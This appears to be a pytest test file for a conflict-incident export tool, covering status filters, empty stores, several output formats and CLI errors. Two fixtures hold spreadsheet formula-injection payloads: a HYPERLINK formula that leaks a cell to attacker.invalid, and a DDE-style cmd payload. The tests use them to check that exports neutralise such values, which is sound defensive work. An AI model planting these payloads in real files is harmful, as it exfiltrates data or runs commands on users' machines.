"""Which incidents go out (--status, --include-rejected), an empty store, hostile scraped text
(formula injection, OWASP), and the CLI shell over harmwatch.export.write."""

from __future__ import annotations

import csv
import json

import geojson_validator
import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from harmwatch.cli.main import cli
from harmwatch.export import FORMATS, acled, safe_cell, ucdp, write

geojson_validator.configure_logging(enabled=False)


def _ids(path, fmt: str) -> list[str]:
    if fmt == "jsonl":
        return [json.loads(x)["incident_id"] for x in path.read_text(encoding="utf-8").splitlines()]
    if fmt in ("acled", "ucdp"):
        key = "event_id_cnty" if fmt == "acled" else "id"
        return list(pd.read_csv(path, dtype="string")[key])
    if fmt == "geojson":
        return [f["id"] for f in json.loads(path.read_text(encoding="utf-8"))["features"]]
    if fmt == "parquet":
        return pq.read_table(path).column("incident_id").to_pylist()
    return list(pd.read_excel(path, sheet_name="incidents")["incident_id"])


def _invoke(args: list[str]):
    return CliRunner().invoke(cli, args, catch_exceptions=False)


@pytest.mark.parametrize("fmt", FORMATS)
def test_status_approved_gives_only_approved(fmt, db_copy, sample_records, set_status, tmp_path):
    ids = [r["incident_id"] for r in sample_records]
    approved, rejected = ids[:3], ids[3:5]
    set_status(db_copy, {**{i: "approved" for i in approved}, **{i: "rejected" for i in rejected}})
    db = db_copy
    out = tmp_path / f"approved.{fmt}"
    res = _invoke(["export", "--db", db, "--format", fmt, "--status", "approved", "-o", str(out)])
    assert res.exit_code == 0, res.output
    assert sorted(_ids(out, fmt)) == sorted(approved)
    everything = tmp_path / f"all.{fmt}"
    assert _invoke(["export", "--db", db, "--format", fmt, "-o", str(everything), "--silent"]).exit_code == 0
    got = _ids(everything, fmt)
    assert len(got) == len(ids) - len(rejected) and not set(got) & set(rejected)  # all but rejected


def test_include_rejected_and_the_status_in_each_format(db_copy, sample_records, set_status, tmp_path):
    first, second = sample_records[0]["incident_id"], sample_records[1]["incident_id"]
    set_status(db_copy, {first: "rejected", second: "approved"})
    db = db_copy
    out = tmp_path / "all.jsonl"
    assert _invoke(["export", "--db", db, "--include-rejected", "-o", str(out), "--silent"]).exit_code == 0
    lines = {x["incident_id"]: x for x in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    assert len(lines) == len(sample_records)
    assert lines[first]["review_status"] == "rejected" and lines[second]["review_status"] == "approved"
    csv_out = tmp_path / "acled.csv"
    write(db, "acled", csv_out, include_rejected=True)
    tags = pd.read_csv(csv_out, dtype=acled.PANDAS_DTYPES).set_index("event_id_cnty")["tags"]
    assert "harmwatch review: rejected" in tags[first] and "harmwatch review: approved" in tags[second]


def test_jsonl_is_the_unchanged_export(sample_url, sample_records, tmp_path):
    out = tmp_path / "m.jsonl"
    write(sample_url, "jsonl", out)
    expected = "".join(json.dumps(r, ensure_ascii=False, default=str) + "\n" for r in sample_records)
    assert out.read_text(encoding="utf-8") == expected


def test_an_empty_store_gives_valid_empty_files(tmp_path, databases):
    from harmwatch.store import open_store

    db = databases.new("empty")
    with open_store(db):
        pass  # a migrated database with no documents
    outs = {fmt: tmp_path / f"empty.{fmt}" for fmt in FORMATS}
    for fmt, out in outs.items():
        res = _invoke(["export", "--db", db, "--format", fmt, "-o", str(out), "--silent"])
        assert res.exit_code == 0, (fmt, res.output)
    assert outs["jsonl"].read_text() == ""
    assert list(pd.read_csv(outs["acled"]).columns) == list(acled.COLUMNS) and len(pd.read_csv(outs["acled"])) == 0
    assert list(pd.read_csv(outs["ucdp"]).columns) == list(ucdp.COLUMNS)
    doc = json.loads(outs["geojson"].read_text())
    assert doc == {"type": "FeatureCollection", "features": []}
    assert geojson_validator.validate_structure(doc, check_crs=True) == {}
    table = pq.read_table(outs["parquet"])
    assert table.num_rows == 0 and "killed_best" in table.schema.names
    assert pd.read_excel(outs["xlsx"], sheet_name="incidents").shape[0] == 0


HOSTILE_SOURCE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open report")'
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory, databases) -> str:
    """A store with one report whose outlet and title are spreadsheet formulas (invented text)."""
    from harmwatch.api import run

    work = tmp_path_factory.mktemp("hostile")
    item = {"id": "hostile-1", "source": HOSTILE_SOURCE, "title": HOSTILE_TITLE, "published": "2010-06-10",
            "text": "Gunmen killed five villagers in Kandahar province on Tuesday, a police spokesman said. "
                    "Three more villagers were hurt in the raid."}
    inp = work / "in.jsonl"
    inp.write_text(json.dumps(item) + "\n", encoding="utf-8")
    db = databases.new("hostile")
    run([inp], db=db)
    return db


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("fmt", ["acled", "ucdp"])
def test_csv_cells_never_start_a_formula(fmt, hostile_db, tmp_path):
    out = tmp_path / f"hostile.{fmt}.csv"
    assert write(hostile_db, fmt, out).written == 1
    rows = list(csv.reader(out.open(encoding="utf-8")))
    cells = [c for row in rows[1:] for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)  # the outlet is there, as text
    if fmt == "ucdp":
        assert "'" + HOSTILE_TITLE in cells  # the headline too
    bad = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert bad == []


def test_xlsx_cells_are_text_not_formulas(hostile_db, tmp_path):
    out = tmp_path / "hostile.xlsx"
    write(hostile_db, "xlsx", out)
    ws = openpyxl.load_workbook(out)["incidents"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + HOSTILE_SOURCE in texts
    assert not [t for t in texts if t.startswith(FORMULA_START)]


def test_safe_cell_neutralises_every_formula_start_and_leaves_numbers():
    for prefix in FORMULA_START:
        assert safe_cell(prefix + "1+2") == "'" + prefix + "1+2"
    assert safe_cell(-76.16945) == -76.16945 and safe_cell(3) == 3
    assert safe_cell("Kandahar") == "Kandahar" and safe_cell(None) is None


def test_negative_coordinates_stay_numbers_in_csv(sample_url, tmp_path):
    out = tmp_path / "acled.csv"
    write(sample_url, "acled", out)
    frame = pd.read_csv(out, dtype=acled.PANDAS_DTYPES)
    assert (frame["longitude"] < 0).any()  # the Americas: MUC-3/4 reports from Latin America


def test_cli_refuses_binary_to_stdout_and_a_bad_db_writes_nothing(tmp_path, sample_url, databases):
    res = CliRunner().invoke(cli, ["export", "--db", sample_url, "--format", "parquet"])
    assert res.exit_code == 2 and "HW-EXPORT-BINARY" in res.stderr
    out = tmp_path / "x.csv"
    missing = databases.new("missing")
    res = CliRunner().invoke(cli, ["export", "--db", missing, "--format", "acled", "-o", str(out)])
    assert res.exit_code == 2 and "HW-STORE-NOT-FOUND" in res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [] and not databases.exists(missing)


def test_cli_summary_counts_unlocated(sample_url, tmp_path):
    res = CliRunner().invoke(cli, ["export", "--db", sample_url, "--format", "geojson", "--located-only",
                                   "-o", str(tmp_path / "x.geojson")])
    assert res.exit_code == 0
    assert "without coordinates left out" in res.stderr


def test_write_to_open_streams_for_the_api(sample_url, sample_records):
    """The API streams exports: text formats into a binary buffer (UTF-8), binary formats too."""
    import io

    buf = io.BytesIO()
    res = write(sample_url, "geojson", buf, status="all")
    assert res.output is None and res.written == len(sample_records)
    assert len(json.loads(buf.getvalue().decode("utf-8"))["features"]) == len(sample_records)
    buf = io.BytesIO()
    write(sample_url, "parquet", buf)
    assert pq.read_table(io.BytesIO(buf.getvalue())).num_rows == len(sample_records)
    text = io.StringIO()
    write(sample_records, "ucdp", text)
    assert text.getvalue().splitlines()[0] == ",".join(ucdp.COLUMNS)


def test_unknown_format_status_or_rule_is_a_coded_error(sample_url, tmp_path):
    from harmwatch.export import ExportError

    for kwargs, code in (({"fmt": "shp"}, "HW-EXPORT-FORMAT"), ({"status": "pending"}, "HW-EXPORT-STATUS"),
                         ({"fatalities": "max"}, "HW-EXPORT-FATALITIES")):
        args = {"fmt": "acled", **kwargs}
        with pytest.raises(ExportError) as err:
            write(sample_url, args.pop("fmt"), tmp_path / "x.csv", **args)
        assert err.value.code == code and err.value.hint
    assert list(tmp_path.iterdir()) == []  # nothing written, no partial file


def test_parquet_without_pyarrow_is_a_coded_error_with_what_to_install(sample_url, tmp_path, monkeypatch):
    import sys

    from harmwatch.export import ExportError

    monkeypatch.setitem(sys.modules, "pyarrow", None)  # as if pyarrow could not be imported
    with pytest.raises(ExportError) as err:
        write(sample_url, "parquet", tmp_path / "x.parquet")
    assert err.value.code == "HW-EXPORT-PARQUET" and "pyarrow==26.0.1" in err.value.hint
    assert list(tmp_path.iterdir()) == []


def test_media_types_and_suffixes_cover_every_format():
    from harmwatch.export import MEDIA_TYPES, SUFFIXES

    assert set(MEDIA_TYPES) == set(SUFFIXES) == set(FORMATS)
    assert MEDIA_TYPES["geojson"] == "application/geo+json"  # RFC 7946 section 12


def test_no_scraped_text_starts_a_formula_in_any_csv_cell(seed):
    """Property: whatever text a page puts in an outlet, a title, a place or an actor name, no ACLED or
    UCDP cell that is not a number begins with a formula character."""
    import io

    from hypothesis import given, settings
    from hypothesis import strategies as st

    text = st.text(alphabet=st.sampled_from("=+-@\t\r\n'\"abc ,;|!0.1"), min_size=1, max_size=12)

    @settings(max_examples=60, deadline=None)
    @given(outlet=text, title=text, place=text, actor=text)
    def check(outlet, title, place, actor):
        rec = {**seed, "sources": [outlet], "summary": actor,
               "location": {**seed["location"], "name": place, "admin1": title},
               "perpetrators": [{**seed["perpetrators"][0], "name": actor}],
               "report_links": [{**seed["report_links"][0], "outlet": outlet, "title": title}]}
        for fmt in ("acled", "ucdp"):
            buf = io.StringIO()
            write([rec], fmt, buf)
            cells = [c for row in csv.reader(io.StringIO(buf.getvalue())) for c in row]
            assert not [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]

    check()


@pytest.mark.parametrize("fmt", ["acled", "ucdp", "parquet"])
def test_a_store_never_merged_exports_its_per_report_incidents(fmt, db_copy, tmp_path, databases):
    databases.execute(db_copy, "delete from merged_members", "delete from merged_incidents")
    n_reports = databases.scalar(db_copy, "select count(*) from incidents")
    out = tmp_path / f"reports.{fmt}"
    res = write(db_copy, fmt, out)
    assert res.written == n_reports > 90
    if fmt == "parquet":
        assert pq.read_table(out).num_rows == n_reports
    else:
        frame = pd.read_csv(out, dtype=(acled if fmt == "acled" else ucdp).PANDAS_DTYPES)
        assert len(frame) == n_reports and frame.iloc[:, 0].notna().all()
